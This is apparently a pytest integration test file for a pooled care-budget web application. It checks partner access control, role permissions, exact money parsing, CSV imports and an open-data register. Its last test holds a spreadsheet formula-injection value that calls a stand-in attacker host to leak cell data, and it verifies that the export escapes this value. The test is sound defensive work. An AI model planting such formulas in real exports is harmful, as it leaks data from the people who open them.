"""Pages and API: a partner sees only agreements it belongs to (others 404), a viewer cannot post
actuals (403), payments and the settlement are the host's, and the API reads money exactly."""

from __future__ import annotations

import csv
import io
import json

from fastapi.testclient import TestClient

from carepool.db.engine import Database
from tests.integration.helpers import sign_in
from tests.integration.pooled_budget.builders import (
    BRENT,
    EALING_FINANCE,
    HUGHES,
    ICB,
    MARCUS,
    PRIYA,
    agreed,
    agreement_json,
    auth,
)

JUNE = {"scheme_id": "REAB", "month": "2025-06", "source": ICB, "actual": "72000.00", "commitments": "9000.00"}


def _create(client: TestClient, database: Database) -> int:
    """Proposed by Priya for Brent, accepted by Marcus for the ICB: active."""
    body = json.dumps(agreement_json()).encode()
    response = client.post("/api/pool/agreements", content=body, headers=auth(database, PRIYA))
    assert response.status_code == 201, response.text
    pool = response.json()["id"]
    assert client.post(f"/api/pool/agreements/{pool}/accept", headers=auth(database, MARCUS)).status_code == 200
    return pool


def test_the_api_reads_money_exactly_and_partners_write_within_their_roles(client: TestClient,
                                                                            database: Database) -> None:
    pool = _create(client, database)
    marcus = auth(database, MARCUS)
    read = client.get(f"/api/pool/agreements/{pool}", headers=marcus).json()
    assert read["budget"] == "1320000.00" and read["schemes"][0]["client_group"] == "Older people"
    assert read["schemes"][0]["overspend_in_words"] == "fixed shares 40/60"
    floaty = json.dumps(agreement_json()).replace('"480000.00"', "480000.00").encode()
    refused = client.post("/api/pool/agreements", content=floaty, headers=auth(database, PRIYA))
    assert refused.status_code == 422 and "JSON number with decimals" in refused.json()["error"]
    outsider = client.post("/api/pool/agreements", content=json.dumps(agreement_json()).encode(),
                           headers=auth(database, EALING_FINANCE))
    assert outsider.status_code == 403

    posted = client.post(f"/api/pool/agreements/{pool}/actuals", json={"figures": [JUNE]}, headers=marcus)
    assert posted.status_code == 200 and posted.json()["spend_posted"] == "72000.00"
    payment = {"partner": ICB, "amount": "100000.00", "on": "2025-04-01", "reference": "Q1"}
    assert client.post(f"/api/pool/agreements/{pool}/payments", json=payment, headers=marcus).status_code == 403
    assert client.post(f"/api/pool/agreements/{pool}/payments", json=payment,
                       headers=auth(database, PRIYA)).status_code == 201
    assert client.post(f"/api/pool/agreements/{pool}/settlement", headers=marcus).status_code == 403
    bad = {"files": ("icb.csv", b"scheme_id,month,source,actual\nREAB,2025-07,QRV,12.345\n", "text/csv")}
    refused = client.post(f"/api/pool/agreements/{pool}/actuals/import", files=bad, headers=marcus)
    assert refused.status_code == 422
    assert refused.json()["problems"] == ["icb.csv, row 2, column actual: '12.345' has a fraction of a penny; "
                                          "use at most 2 decimals"]
    same_name = [("files", ("export.csv", f"scheme_id,month,source,actual\nREAB,2025-07,{ICB},1000.00\n".encode(),
                            "text/csv")),
                 ("files", ("export.csv", f"scheme_id,month,source,actual\nREAB,2025-07,{BRENT},2000.00\n".encode(),
                            "text/csv"))]
    both = client.post(f"/api/pool/agreements/{pool}/actuals/import", files=same_name, headers=marcus)
    assert both.status_code == 200, both.text  # two ledgers' files with one name are still two files
    assert (both.json()["rows"], both.json()["new"], both.json()["spend_posted"]) == (2, 2, "3000.00")
    variation = {"description": "move", "changes": [{"kind": "move", "partner": ICB, "from": "ICES", "to": "REAB",
                                                     "amount": "20000.00"}]}
    proposed = client.post(f"/api/pool/agreements/{pool}/variations", content=json.dumps(variation).encode(),
                           headers=marcus)
    assert proposed.status_code == 201 and proposed.json()["waiting_for"] == ["E09000005", ICB]
    approved = client.post(f"/api/pool/agreements/{pool}/variations/1/approve", headers=marcus).json()
    assert approved["status"] == "proposed" and approved["waiting_for"] == ["E09000005"]


def test_an_organisation_outside_the_agreement_gets_404_everywhere(client: TestClient, database: Database) -> None:
    pool = _create(client, database)
    ealing = auth(database, EALING_FINANCE)
    assert client.get("/api/pool/agreements", headers=ealing).json() == []
    for path in [f"/api/pool/agreements/{pool}", f"/api/pool/agreements/{pool}/monitoring",
                 f"/api/pool/agreements/{pool}/variations", f"/api/pool/agreements/{pool}/payments",
                 f"/api/pool/agreements/{pool}/reports/monitoring", f"/api/pool/agreements/{pool}/reports/ledger"]:
        assert client.get(path, headers=ealing).status_code == 404, path
    posted = client.post(f"/api/pool/agreements/{pool}/actuals", json={"figures": [JUNE]}, headers=ealing)
    assert posted.status_code == 404 and "Brent" not in posted.text
    assert sign_in(client, EALING_FINANCE).status_code == 200
    for path in [f"/pool/{pool}", f"/pool/{pool}/monitoring", f"/pool/{pool}/variations", f"/pool/{pool}/settlement",
                 f"/pool/{pool}/download/monitoring"]:
        page = client.get(path)
        assert page.status_code == 404 and "Reablement" not in page.text, path
    assert client.post(f"/pool/{pool}/monitoring/entry", data={**JUNE, "commitments": ""}).status_code == 404
    assert "Brent BCF pool" not in client.get("/pool").text


def test_a_viewer_reads_but_cannot_post_and_priya_works_on_the_pages(client: TestClient, database: Database) -> None:
    pool = _create(client, database)
    viewer = auth(database, HUGHES)
    assert client.get(f"/api/pool/agreements/{pool}/monitoring", headers=viewer).status_code == 200
    response = client.post(f"/api/pool/agreements/{pool}/actuals", json={"figures": [JUNE]}, headers=viewer)
    assert response.status_code == 403 and "commissioner or finance" in response.json()["error"]
    sign_in(client, HUGHES)
    assert client.get(f"/pool/{pool}").status_code == 200
    assert client.post(f"/pool/{pool}/monitoring/entry", data={**JUNE, "commitments": ""}).status_code == 403
    assert client.get(f"/api/pool/agreements/{pool}/monitoring", headers=viewer).json()["as_at"] == 0

    client.post("/logout")
    sign_in(client, PRIYA)
    overview = client.get(f"/pool/{pool}")
    assert overview.status_code == 200 and "Reablement" in overview.text and "plotly" in overview.text
    entered = client.post(f"/pool/{pool}/monitoring/entry", data={**JUNE, "commitments": ""})
    assert entered.status_code == 200 and "1 new" in entered.text
    for kind, media in [("monitoring", "spreadsheetml"), ("bcf-return", "spreadsheetml"), ("register", "text/csv"),
                        ("ledger", "text/plain")]:
        download = client.get(f"/pool/{pool}/download/{kind}")
        assert download.status_code == 200 and media in download.headers["content-type"], kind
    assert "Brent BCF pool" in client.get(f"/pool/{pool}/download/register").text
    assert client.get("/api/openapi.json").status_code == 200


def test_the_register_entries_are_open_data_and_nothing_more(client: TestClient, database: Database) -> None:
    pool = _create(client, database)
    client.post(f"/api/pool/agreements/{pool}/actuals", json={"figures": [JUNE]}, headers=auth(database, PRIYA))
    client.cookies.clear()
    register = client.get("/open-data/pooled-budgets.csv")  # nobody signed in
    assert register.status_code == 200 and register.headers["content-type"].startswith("text/csv")
    header, row = register.text.splitlines()
    assert header.startswith("year,agreement_id,agreement,host_code") and "Older people" in row
    assert "1332000.00" in row  # the total pooled (schemes and contingency)
    assert "72000.00" not in register.text  # monitoring figures are the partners' alone
    assert client.get(f"/pool/{pool}", follow_redirects=False).status_code == 303  # the rest needs a sign-in


def test_the_register_shows_a_name_typed_like_a_formula_as_text(client: TestClient, database: Database) -> None:
    attack = '=HYPERLINK("https://attacker.example/?d="&A2,"Open the pool")'
    agreed(database, data=agreement_json(agreement=attack))
    register = client.get("/open-data/pooled-budgets.csv")
    [row] = list(csv.DictReader(io.StringIO(register.text)))
    assert row["agreement"] == "'" + attack  # a spreadsheet shows it, never runs it
